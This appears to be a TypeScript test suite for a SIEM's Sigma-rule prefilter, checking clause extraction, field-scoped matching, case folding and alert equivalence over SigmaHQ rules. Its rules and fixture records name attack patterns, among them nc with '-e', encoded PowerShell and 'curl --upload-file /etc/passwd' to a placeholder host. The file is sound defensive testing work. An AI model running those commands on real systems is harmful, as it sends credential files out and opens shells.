// The literal prefilter (rule-atoms.ts, rule-prefilter.ts): which clauses each rule shape yields, that a record
// without a rule's literals skips the rule (field-scoped: the literal elsewhere does not count), that the line gate
// never skips what the parser would have matched (escapes, metadata, labels), and — over every SigmaHQ rule and
// records generated from the rules' own selections — that alerts are identical with the prefilter on and off.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { DetectionEngine } from '../../../src/siem/detection-engine.ts';
import { loadRulePaths, loadRuleTexts, type RuleSet } from '../../../src/siem/rule-set.ts';
import { loadMapping, parseMapping } from '../../../src/siem/sigma/logsource-mapping.ts';
import { RulePrefilter } from '../../../src/siem/sigma/rule-prefilter.ts';
import type { CompiledSigmaRule } from '../../../src/siem/sigma/sigma-compile.ts';
import type { SearchNode, SigmaDetectionRule } from '../../../src/siem/sigma/sigma-ast.ts';
import type { SiemAlert } from '../../../src/siem/alert.ts';
import { Prng } from '../../../src/demo/prng.ts';
import { rule, view, type Ev } from './sigma-fixture.ts';
import { batchOf, type Rec } from '../scenario.ts';

const SIGMA = path.resolve(import.meta.dirname, '../../../../shared/data/sigma/rules');
const MAPPING = path.resolve(import.meta.dirname, '../../../examples/siem/sigma-mapping.yaml');

function clauses(r: CompiledSigmaRule): string[][] | undefined {
  return r.atoms?.map((c) => c.map((a) => `${a.target === 'line' ? 'line' : a.target.slice('field:'.length).replace(/\u0000/g, '|')}:${a.lit}`).sort()).sort((a, b) => (a[0]! < b[0]! ? -1 : 1));
}

function admits(r: CompiledSigmaRule, ev: Ev): boolean {
  const pf = new RulePrefilter([r.atoms]);
  const v = view(ev);
  pf.scan(v);
  return pf.admits(0);
}

test('clauses per rule shape: contains, startswith/endswith, equality, keywords, AND, OR, 1 of / all of', () => {
  assert.deepEqual(clauses(rule('  sel:\n    CommandLine|contains: [wget, CURL]\n  condition: sel')), [['CommandLine:curl', 'CommandLine:wget']]);
  assert.deepEqual(clauses(rule('  sel:\n    Image|endswith: /nc\n    CommandLine|contains: " -e "\n  condition: sel')), [['CommandLine: -e '], ['Image:/nc']]);
  assert.deepEqual(clauses(rule('  sel:\n    Image|startswith: "/usr/bin/py*th?n"\n  condition: sel')), [['Image:/usr/bin/py']]);
  assert.deepEqual(clauses(rule('  keywords:\n    - "error: auth"\n    - Bad protocol\n  condition: keywords')), [['line:bad protocol', 'line:error: auth']]);
  assert.deepEqual(clauses(rule('  a:\n    User: root\n  b:\n    User: admin\n  condition: a or b')), [['User:admin', 'User:root']]);
  assert.deepEqual(clauses(rule('  sel_a:\n    A: xx1\n  sel_b:\n    B: yy2\n  condition: all of sel_*')), [['A:xx1'], ['B:yy2']]);
  assert.deepEqual(clauses(rule('  sel_a:\n    A: xx1\n  sel_b:\n    B: yy2\n  condition: 1 of sel_*')), [['A:xx1', 'B:yy2']]);
  assert.deepEqual(clauses(rule('  sel:\n    CommandLine|contains|all: [ab, longer-one]\n  condition: sel')), [['CommandLine:longer-one']]);
});

test('clauses after transformations: cased, windash, base64offset, utf16, expand', () => {
  assert.deepEqual(clauses(rule('  sel:\n    CommandLine|cased: ABC\n  condition: sel')), [['CommandLine:abc']]);
  // the en/em/horizontal-bar spellings are not ASCII: their longest ASCII run is the flag's name
  assert.deepEqual(clauses(rule('  sel:\n    CommandLine|windash|contains: " -enc "\n  condition: sel')), [['CommandLine: -enc ', 'CommandLine: /enc ', 'CommandLine:enc ']]);
  const b64 = clauses(rule('  sel:\n    CommandLine|base64offset|contains: http://\n  condition: sel'))!;
  assert.equal(b64[0]!.length, 3);
  const r = rule('  sel:\n    CommandLine|base64offset|contains: http://\n  condition: sel');
  for (const prefix of ['', 'a', 'ab']) {
    const enc = Buffer.from(`${prefix}http://evil.example`).toString('base64');
    const ev = { fields: { CommandLine: `x ${enc} y` } };
    assert.equal(r.matches(view(ev)), true, prefix);
    assert.equal(admits(r, ev), true, prefix);
  }
  const wide = rule('  sel:\n    CommandLine|wide|base64offset|contains: ping\n  condition: sel');
  const encWide = Buffer.from('x ping y', 'utf16le').toString('base64');
  assert.equal(wide.matches(view({ fields: { CommandLine: encWide } })), true);
  assert.equal(admits(wide, { fields: { CommandLine: encWide } }), true);
  const exp = rule('  sel:\n    User|expand: "%Admins%"\n  condition: sel', { mapping: 'placeholders:\n  Admins: [root, toor]\n' });
  assert.deepEqual(clauses(exp), [['User:root', 'User:toor']]);
});

test('no clauses where no literal is necessary: not, re, cidr, numbers, neq, null, exists, empty, *', () => {
  const none = [
    '  sel:\n    A: x\n  condition: not sel',
    '  sel:\n    A|re: "ab|cd"\n  condition: sel',
    '  sel:\n    A|re: "[a-z]+\\\\d*"\n  condition: sel',
    '  sel:\n    ip|cidr: 10.0.0.0/8\n  condition: sel',
    '  sel:\n    n|gt: 5\n  condition: sel',
    '  sel:\n    A|neq: x\n  condition: sel',
    '  sel:\n    A: null\n  condition: sel',
    '  sel:\n    A|exists: true\n  condition: sel',
    '  sel:\n    A: ""\n  condition: sel',
    '  sel:\n    A: ["abc", "*"]\n  condition: sel',
  ];
  for (const d of none) assert.equal(rule(d).atoms, undefined, d);
  // AND with an unfiltered side keeps the other side's clause; OR with one loses it
  assert.deepEqual(clauses(rule('  sel:\n    A|re: "x|y"\n    B: needle\n  condition: sel')), [['B:needle']]);
  assert.equal(rule('  a:\n    A|re: "x|y"\n  b:\n    B: needle\n  condition: a or b').atoms, undefined);
  // a filter only removes matches: the selection's clauses stay
  assert.deepEqual(clauses(rule('  sel:\n    A: needle\n  filter:\n    B: other\n  condition: sel and not filter')), [['A:needle']]);
});

test('regexes: the longest literal every match contains (top level, not optional), none with a top-level |', () => {
  assert.deepEqual(clauses(rule("  sel:\n    userIdentity.arn|re: '.+:assumed-role/aws:.+'\n  condition: sel")), [['userIdentity.arn|userIdentity_arn::assumed-role/aws:']]);
  assert.deepEqual(clauses(rule("  sel:\n    A|re: '(ab|cd)efgh?i'\n  condition: sel")), [['A:abefg', 'A:cdefg']]);
  // SigmaHQ's Pnscan rule: a group of plain alternatives and a short class count; \x41 is not the text "41"
  assert.deepEqual(clauses(rule("  sel:\n    A|re: -(W|R)\\s?(\\s|\"|')([0-9a-fA-F]{2}\\s?){2,20}(\\s|\"|')\n  condition: sel")), [['A:-r', 'A:-w']]);
  assert.deepEqual(clauses(rule("  sel:\n    A|re: '\\x41bc'\n  condition: sel")), [['A:bc']]);
  assert.deepEqual(clauses(rule("  sel:\n    A|re: '\\s-[FTd]\\s'\n  condition: sel")), [['A:-d', 'A:-f', 'A:-t']]);
  const pn = rule("  sel:\n    A|re: -(W|R)\\s?(\\s|\"|')([0-9a-fA-F]{2}\\s?){2,20}(\\s|\"|')\n  condition: sel");
  for (const v of ['pnscan -W "41 42 43"', 'pnscan -R 414243 ']) assert.equal(pn.matches(view({ fields: { A: v } })) && admits(pn, { fields: { A: v } }), true, v);
  assert.deepEqual(clauses(rule("  sel:\n    A|re|i: '\\bcmd\\.exe\\b'\n  condition: sel")), [['A:cmd.exe']]);
  assert.deepEqual(clauses(rule("  sel:\n    A|re: ['x{2}yyy', 'zz+ww']\n  condition: sel")), [['A:yyy', 'A:zz']]);
  const r = rule("  sel:\n    A|re|i: 'Power[sS]hell.+-enc(odedcommand)? '\n  condition: sel");
  assert.deepEqual(clauses(r), [['A:powershell']]);
  for (const v of ['POWERSHELL.EXE -enc AAA', 'powershell -EncodedCommand x ']) {
    assert.equal(r.matches(view({ fields: { A: v } })), true, v);
    assert.equal(admits(r, { fields: { A: v } }), true, v);
  }
  assert.equal(admits(r, { fields: { A: 'pwsh -enc' } }), false);
});

test('field-scoped: the literal elsewhere in the record does not admit the rule; case does not matter', () => {
  const r = rule('  sel:\n    Image|endswith: /curl\n    CommandLine|contains: --upload-file\n  condition: sel');
  assert.equal(admits(r, { line: '/usr/bin/curl --upload-file x', fields: { Image: '/usr/bin/wget', CommandLine: 'wget --upload-file x' } }), false);
  assert.equal(admits(r, { fields: { Image: '/USR/BIN/CURL', CommandLine: 'curl --Upload-File x' } }), true);
  assert.equal(admits(r, { fields: { Image: '/usr/bin/curl' } }), false, 'the second clause has no value to search');
  // characters outside ASCII that lower-case into it (the Kelvin sign to k) are seen as the rule sees them
  const kill = rule('  sel:\n    CommandLine|contains: kill -9\n  condition: sel');
  assert.equal(kill.matches(view({ fields: { CommandLine: '\u212Aill -9 1' } })), true);
  assert.equal(admits(kill, { fields: { CommandLine: '\u212Aill -9 1' } }), true);
  assert.equal(admits(kill, { fields: { CommandLine: 'KILL -9 1' } }), true);
  assert.equal(admits(kill, { fields: { CommandLine: 'k\u00e9ll -9 1' } }), false);
  // mapped names: the value is read through the same candidates as the rule (first present wins)
  const m = rule('  sel:\n    c-useragent|contains: sqlmap\n  condition: sel', { mapping: 'fields:\n  c-useragent: [cs_user_agent, user_agent]\n' });
  assert.equal(admits(m, { fields: { user_agent: 'sqlmap/1.7' } }), true);
  assert.equal(admits(m, { fields: { user_agent: 'curl/8' } }), false);
});

const JSON_MAPPING = parseMapping(`logsources:\n  - logsource: {category: process_creation}\n    query: '{category="process_creation"} | json'\n`, 'm.yaml');
const CURL = `title: curl upload\nid: 00000000-0000-4000-8000-0000000000c1\nlogsource: {category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /bin/curl\n    CommandLine|contains: --upload-file\n  condition: sel\n`;

function alertsOf(set: RuleSet, recs: Rec[]): SiemAlert[] {
  const out: SiemAlert[] = [];
  const e = new DetectionEngine({ rules: set, clockWatermark: false, reorderWindowMs: 0, onAlert: (a) => out.push(a) });
  e.onCommitted(batchOf(recs));
  e.flush();
  return out;
}

test('line gate: skips records without the literals, never what the parser would match (escapes, metadata, labels)', () => {
  const set = loadRuleTexts([{ name: 'curl.yml', text: CURL }], JSON_MAPPING);
  const pc = { category: 'process_creation' };
  const T = 1_714_586_400_000_000_000n;
  const recs: Rec[] = [
    { ts: T, labels: pc, line: JSON.stringify({ Image: '/usr/bin/curl', CommandLine: 'curl --upload-file /etc/passwd http://x' }) },
    // JSON may escape '/': the line has no "/bin/curl", the parsed field does
    { ts: T + 1n, labels: pc, line: '{"Image":"\\/usr\\/bin\\/curl","CommandLine":"curl --upload-file a http:\\/\\/x"}' },
    // the field from structured metadata, not the line
    { ts: T + 2n, labels: pc, line: '{"note":"x"}', metadata: { Image: '/bin/curl', CommandLine: 'curl --upload-file b' } },
    // no literal anywhere: skipped
    { ts: T + 3n, labels: pc, line: JSON.stringify({ Image: '/usr/bin/ls', CommandLine: 'ls -la' }) },
  ];
  // one alert (repeats on a stream fold into it), linking the three matching records
  const got = alertsOf(set, recs);
  assert.deepEqual(got.flatMap((a) => a.events.map((e) => e.ts)), [String(T), String(T + 1n), String(T + 2n)]);
  // a stream label under a field name the rule reads: its value is not in the line, the gate must not skip
  const withLabel = alertsOf(set, [{ ts: T, labels: { ...pc, Image: '/usr/bin/curl' }, line: JSON.stringify({ CommandLine: 'curl --upload-file c' }) }]);
  assert.equal(withLabel.length, 1);
  // upper case, and a character that lower-cases to ASCII (U+212A KELVIN SIGN → k): the gate folds case as the rule does
  const kelvin = loadRuleTexts([{ name: 'k.yml', text: CURL.replace('--upload-file', '--upload-file k') }], JSON_MAPPING);
  const folded = alertsOf(kelvin, [{ ts: T, labels: pc, line: JSON.stringify({ Image: '/USR/BIN/CURL', CommandLine: 'curl --UPLOAD-FILE \u212A' }) }]);
  assert.equal(folded.length, 1);
});

// ---------------------------------------------------------------- differential over every SigmaHQ rule

/** A Sigma value as a string that satisfies it (wildcards filled, transformations that need encoding skipped). */
function sample(text: string, mods: string[], prng: Prng): string | undefined {
  if (mods.some((m) => ['re', 'cidr', 'base64', 'base64offset', 'utf16le', 'utf16be', 'utf16', 'wide', 'fieldref', 'lt', 'lte', 'gt', 'gte', 'exists', 'neq', 'expand'].includes(m))) return undefined;
  let s = '';
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (c === '\\' && (text[i + 1] === '*' || text[i + 1] === '?' || text[i + 1] === '\\')) s += text[++i];
    else if (c === '*') s += prng.next() < 0.5 ? '' : 'Zq';
    else if (c === '?') s += 'k';
    else s += c;
  }
  if (prng.next() < 0.3) s = s.toUpperCase();
  if (mods.includes('contains')) return `pre ${s} post`;
  if (mods.includes('startswith')) return `${s} tail`;
  if (mods.includes('endswith')) return `head/${s}`;
  return s;
}

/** Field values and keywords that satisfy one search identifier (one branch of each OR). */
function satisfy(node: SearchNode, prng: Prng, fields: Record<string, string>, keywords: string[]): void {
  if (node.kind === 'field') {
    const texts = node.values.map((v) => (v.kind === 'string' || v.kind === 'number' ? v.text : undefined)).filter((t): t is string => t !== undefined);
    if (texts.length === 0) return;
    const pick = node.modifiers.includes('all') ? texts : [texts[Math.floor(prng.next() * texts.length)]!];
    const vals = pick.map((t) => sample(t, node.modifiers, prng));
    if (vals.some((v) => v === undefined)) return;
    if (node.field === undefined) keywords.push(...(vals as string[]));
    else fields[node.field] = (vals as string[]).join(' ');
    return;
  }
  if (node.kind === 'and') for (const i of node.items) satisfy(i, prng, fields, keywords);
  else if (node.items.length > 0) satisfy(node.items[Math.floor(prng.next() * node.items.length)]!, prng, fields, keywords);
}

const STREAMS: Record<string, { labels: Record<string, string>; format: 'json' | 'logfmt' | 'pattern' | 'plain' }> = {
  process_creation: { labels: { category: 'process_creation', host: 'n1' }, format: 'json' },
  file_event: { labels: { category: 'file_event' }, format: 'json' },
  network_connection: { labels: { category: 'network_connection' }, format: 'json' },
  proxy: { labels: { category: 'proxy' }, format: 'json' },
  cloudtrail: { labels: { service: 'cloudtrail' }, format: 'json' },
  auditd: { labels: { service: 'auditd' }, format: 'logfmt' },
  webserver: { labels: { service: 'nginx' }, format: 'pattern' },
  sshd: { labels: { service: 'sshd', facility: 'auth' }, format: 'plain' },
  syslog: { labels: { service: 'cron', facility: 'cron' }, format: 'plain' },
};

function streamOf(r: SigmaDetectionRule): keyof typeof STREAMS {
  const ls = r.logsource;
  if (ls.category && ls.category in STREAMS) return ls.category as keyof typeof STREAMS;
  if (ls.service === 'cloudtrail') return 'cloudtrail';
  if (ls.service === 'auditd') return 'auditd';
  if (ls.service === 'sshd') return 'sshd';
  return 'syslog';
}

function lineFor(format: string, fields: Record<string, string>, keywords: string[]): string {
  const kw = keywords.join(' ');
  if (format === 'json') {
    const obj: Record<string, unknown> = {};
    for (const [k, v] of Object.entries(fields)) {
      // CloudTrail's nested names (userIdentity.arn) as nested objects, as the service writes them
      const parts = k.split('.');
      let o = obj;
      for (let i = 0; i < parts.length - 1; i++) o = (o[parts[i]!] ??= {}) as Record<string, unknown>;
      o[parts[parts.length - 1]!] = v;
    }
    if (kw) obj.message = kw;
    return JSON.stringify(obj);
  }
  if (format === 'logfmt') return [`type=${fields.type ?? 'EXECVE'}`, ...Object.entries(fields).filter(([k]) => k !== 'type').map(([k, v]) => `${k}=${JSON.stringify(v)}`), kw].join(' ');
  if (format === 'pattern') {
    const f = (n: string, d: string) => fields[n] ?? fields[n.replace(/_/g, '-')] ?? d;
    return `${f('c_ip', '203.0.113.5')} - ${f('cs_username', '-')} [01/May/2024:18:00:00 +0000] "${f('cs_method', 'GET')} ${f('c_uri', '/x')}${kw ? encodeURI(' ' + kw) : ''} HTTP/1.1" ${f('sc_status', '200')} 5 "${f('cs_referer', '-')}" "${f('cs_user_agent', fields['c-useragent'] ?? 'Mozilla/5.0')}"`;
  }
  return [kw, ...Object.entries(fields).map(([k, v]) => `${k}=${v}`)].join(' ');
}

test('every SigmaHQ rule: the same alerts with and without the prefilter, on records built from the rules\' selections', () => {
  const set = loadRulePaths(['linux', 'web', 'cloud/aws'].map((f) => path.join(SIGMA, f)), loadMapping(MAPPING));
  const unfiltered: RuleSet = { ...set, sigma: set.sigma.map((r) => ({ ...r, atoms: undefined })) };
  const prng = new Prng(11);
  const recs: Rec[] = [];
  let ts = 1_714_586_400_000_000_000n;
  for (const c of set.sigma) {
    const r = c.rule;
    const stream = STREAMS[streamOf(r)]!;
    for (const [name, node] of r.searches) {
      if (name.startsWith('filter')) continue;
      for (let k = 0; k < 3; k++) {
        const fields: Record<string, string> = {};
        const keywords: string[] = [];
        satisfy(node, prng, fields, keywords);
        // each record once in the stream's line format, once with its fields as structured metadata
        recs.push({ ts: (ts += 1_000_000_000_000n), labels: stream.labels, line: lineFor(stream.format, fields, keywords) });
        recs.push({ ts: (ts += 1_000_000_000_000n), labels: stream.labels, line: keywords.join(' ') || 'x', metadata: fields });
      }
    }
  }
  const key = (a: SiemAlert) => `${a.rule} ${a.first_ts}`;
  const on = alertsOf(set, recs).map(key);
  const off = alertsOf(unfiltered, recs).map(key);
  assert.ok(off.length > 300, `the generated records make many rules fire (${off.length} alerts from ${recs.length} records)`);
  assert.deepEqual(on, off);
  const rulesFired = new Set(off.map((k) => k.split(' ')[0]));
  assert.ok(rulesFired.size > 150, `${rulesFired.size} distinct rules fired`);
});

test('regex literals are necessary: every random text a regex matches contains one of them (RE2 as the judge)', async () => {
  const { RE2JS } = await import('re2js');
  const { regexRequiredLiterals } = await import('../../../src/siem/sigma/regex-literals.ts');
  const patterns = ['ab(c|d)e', 'a[bB]c+d', '-(W|r)\\s?ab', '(?i)AbC', 'x?ab{2}c', '(?:ab|ba)c.d', 'a\\.b[c.]d', '^ab$|cd', '(a|b)(c|d)(e|f)', 'a+b+c', '\\x61bc', '[^a]bc', '(?P<n>ab)(cd)?e', 'a(?i)bc', 'ab\\b c'];
  const prng = new Prng(3);
  for (const p of patterns) {
    const re = RE2JS.compile(p);
    const lits = regexRequiredLiterals(p);
    // texts over the pattern's own characters (both cases) and one other, so matches are frequent
    const own = [...new Set([...p.replace(/\\x61/g, 'a')].filter((c) => /[A-Za-z0-9 .-]/.test(c)))].join('');
    const alphabet = own + own.toUpperCase() + 'z';
    let matched = 0;
    for (let k = 0; k < 100_000 && matched < 200; k++) {
      let t = '';
      const n = 1 + Math.floor(prng.next() * 9);
      for (let i = 0; i < n; i++) t += alphabet[Math.floor(prng.next() * alphabet.length)];
      if (!re.test(t)) continue;
      matched++;
      if (lits.length > 0) assert.ok(lits.some((l) => t.toLowerCase().includes(l)), `${p} matched ${JSON.stringify(t)} without any of ${JSON.stringify(lits)}`);
    }
    assert.ok(matched > 0 || lits.length === 0, `${p}: no random text matched, the check proved nothing`);
  }
});
